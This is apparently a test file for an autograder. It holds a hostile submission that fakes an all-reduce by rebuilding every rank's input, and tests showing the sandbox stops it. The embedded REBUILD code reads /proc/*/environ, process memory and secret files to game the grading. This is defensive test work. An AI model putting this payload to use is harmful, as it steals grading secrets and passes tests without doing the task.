"""Hostile submissions, class 2 of issue 25: an all-reduce that sends nothing and rebuilds every
rank's input on its own must score nothing on the value checks.

The attack (REBUILD below) is what a student who read the public harness would write into
naive_all_reduce and ring_all_reduce: walk up the call stack and the garbage collector for the
harness's case objects, any list holding every rank's input, and the grading's input secret (in
the environment, in /proc/*/environ, in any dict of the process, or in the file it names); call
every input maker of the harness modules with what it found; keep a rebuild only when it gives
back this rank's own x; else try the closed forms ("rank r holds r", and r times a constant).
Then it writes the combined result into x without sending a message. It says what it used in
ATTACK-REBUILT lines (and ATTACK-DONE once it ran).

The inputs come from the trusted test process (assignments/common/rank_inputs.py): each rank
receives only its own, made from a secret drawn per grading, so every case fails but p = 1. Before
that design (ranks made their inputs from a seed in the case) the same code took the hidden tests'
full marks. The control: with the sandbox off the attack reads the secret file and takes them again.
"""

import json
import os

import pytest

from autograder.hw1.cases import WORLD_SIZES
from tests.kit.submissions import insert_after_marker, make_submission, run
from tests.kit.test_hostile import sandboxed_processes, uids_of

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's user layer needs root (CI runs as root)")]

REBUILD = '''
import gc as _gc, glob as _gl, importlib as _il, inspect as _in, os as _o, sys as _y
import torch as _t
_p, _me = group.size, group.rank
_var = "AUTOGRADER_INPUT_SECRET"
_cache = _y.__dict__.setdefault("_rebuild_cache", {})        # what the hunt found, once per process
def _say(what):
    print(f"ATTACK-REBUILT: {what}", flush=True)
def _hunt_secret():
    found = [v for k, v in _o.environ.items() if k.startswith(_var)]
    for _env in _gl.glob("/proc/*/environ"):
        try:
            found += [kv.split(b"=", 1)[1].decode() for kv in open(_env, "rb").read().split(b"\\0")
                      if kv.startswith(_var.encode())]
        except OSError:
            pass
    for _obj in _gc.get_objects():                  # dicts of plain strings are not tracked: look one level in
        for _d in [_obj, *_obj.values()] if type(_obj) is dict else []:
            if type(_d) is dict:
                found += [str(v) for k, v in list(_d.items()) if isinstance(k, str) and k.startswith(_var)]
    for _v in list(found):
        try:
            found.append(open(_v).read().strip())
        except Exception:
            pass
    return [None] + list(dict.fromkeys(found))
def _frames_cases():
    cases, f = [], _in.currentframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            if hasattr(v, "fn") and hasattr(v, "dtype") and hasattr(v, "n"):
                cases.append(v)
        f = f.f_back
    return cases
def _makers():
    for _f in _gl.glob("assignments/*/tests/*.py") + _gl.glob("assignments/common/*.py"):
        try:
            _il.import_module(_f[:-3].replace("/", "."))
        except Exception:
            pass
    found = {}
    for name, mod in list(_y.modules.items()):
        if name.startswith("assignments") and mod is not None:
            for attr, fn in list(vars(mod).items()):
                if callable(fn) and "input" in attr.lower() and not isinstance(fn, type):
                    found[id(fn)] = (attr, fn)
    return list(found.values())
def _rebuild(case):
    if "makers" not in _cache:
        _cache["makers"], _cache["secrets"] = _makers(), _hunt_secret()
    for secret in _cache["secrets"]:
        if secret is not None:
            _o.environ[_var] = secret
        for name, fn in _cache["makers"]:
            for call in (lambda: [fn(case, r, _p) for r in range(_p)], lambda: list(fn(case, _p))):
                try:
                    xs = call()
                    if len(xs) == _p and _t.equal(xs[_me].reshape(x.shape).to(x.dtype).cpu(), x.cpu()):
                        _say(f"{name} (secret {'found' if secret else 'not needed'})")
                        return xs
                except Exception:
                    pass
    return None
def _from_memory():
    for obj in _gc.get_objects():
        if type(obj) in (list, tuple) and len(obj) == _p and all(isinstance(v, _t.Tensor) for v in obj):
            if obj[_me] is not x and obj[_me].shape == x.shape and _t.equal(obj[_me].cpu(), x.cpu()):
                _say("every rank's input found in memory")
                return list(obj)
    return None
def _closed_form():
    flat = x.reshape(-1).to(_t.float64).cpu()
    if flat.numel() == 0 or not bool((flat == flat[0]).all()):
        return None
    c = float(flat[0])
    if c == _me:
        _say("closed form: rank r holds r")
        return [_t.full_like(x, r) for r in range(_p)]
    if _me > 0:
        _say("closed form: rank r holds r times a constant")
        return [_t.full_like(x, c / _me * r) for r in range(_p)]
    return None
_xs = None
for _case in _frames_cases():
    _xs = _rebuild(_case)
    if _xs is not None:
        break
_xs = _xs or _from_memory() or _closed_form()
if _xs is not None:
    _wide = _t.float64 if x.dtype.is_floating_point else _t.int64
    _st = _t.stack([v.reshape(x.shape).to(_wide).cpu() for v in _xs])
    _res = {"sum": _st.sum(0), "max": _st.amax(0), "min": _st.amin(0), "prod": _st.prod(0)}.get(op, _st.sum(0))
    x.copy_(_res.to(x.dtype))
else:
    _say("nothing rebuilt")
print("ATTACK-DONE: REBUILD", flush=True)
return x
'''

ONLY = r"HW1 1\.[47] .*: test_(naive|ring)_all_reduce$"        # the hidden tests, one case per world size


def test_an_all_reduce_that_rebuilds_every_input_scores_nothing(tmp_path):
    """Every case fails but p = 1 (an all-reduce of one rank leaves x as it is: deserved), and the
    rubric entries of both tasks: 1.75 of 19 points. Before the inputs came from the test process the
    same code took all 19 (both tests and both rubric entries)."""
    sub = make_submission(tmp_path / "rebuild", {"all_reduce.py": lambda s: insert_after_marker(
        "1.7", REBUILD)(insert_after_marker("1.4", REBUILD)(s))})
    out = tmp_path / "results.json"
    results = run(sub, only=ONLY, out=str(out), suites=None, jobs=2)
    graded = {t["name"].rsplit(": ", 1)[-1]: t for t in results["tests"][1:] if t["max_score"]}
    tests = [graded["test_naive_all_reduce"], graded["test_ring_all_reduce"]]
    deserved = sum(t["max_score"] / len(WORLD_SIZES) for t in tests)            # the p = 1 cases
    assert results["score"] <= deserved + 1e-9, [(name, t["score"]) for name, t in graded.items()]
    for t in tests:
        assert "ATTACK-DONE: REBUILD" in t["output"], f"the attack did not run in {t['name']}"
        assert "elements differ" in t["output"], t["output"][-2000:]       # caught by the value checks
    assert json.loads(out.read_text())["score"] == results["score"]
    assert sandboxed_processes(uids_of(results)) == [], "sandboxed processes outlived the grading"


def test_the_attack_rebuilds_the_inputs_where_it_can_read_the_secret(tmp_path):
    """The control: with the sandbox off (the rank host runs as the grader's user, root here) the
    attack reads the grading's secret file, rebuilds every input and takes full marks: what keeps
    the score sound above is that the secret stays out of the sandbox's reach."""
    sub = make_submission(tmp_path / "rebuild", {"all_reduce.py": insert_after_marker("1.4", REBUILD)})
    results = run(sub, only=r"HW1 1\.4 .*: test_naive_all_reduce$", suites=None, sandbox=False)
    naive = [t for t in results["tests"] if t["name"].endswith(": test_naive_all_reduce")][0]
    shown = "\n".join(line for line in naive["output"].splitlines() if "ATTACK-" not in line)
    assert naive["score"] == naive["max_score"], shown[:3000]
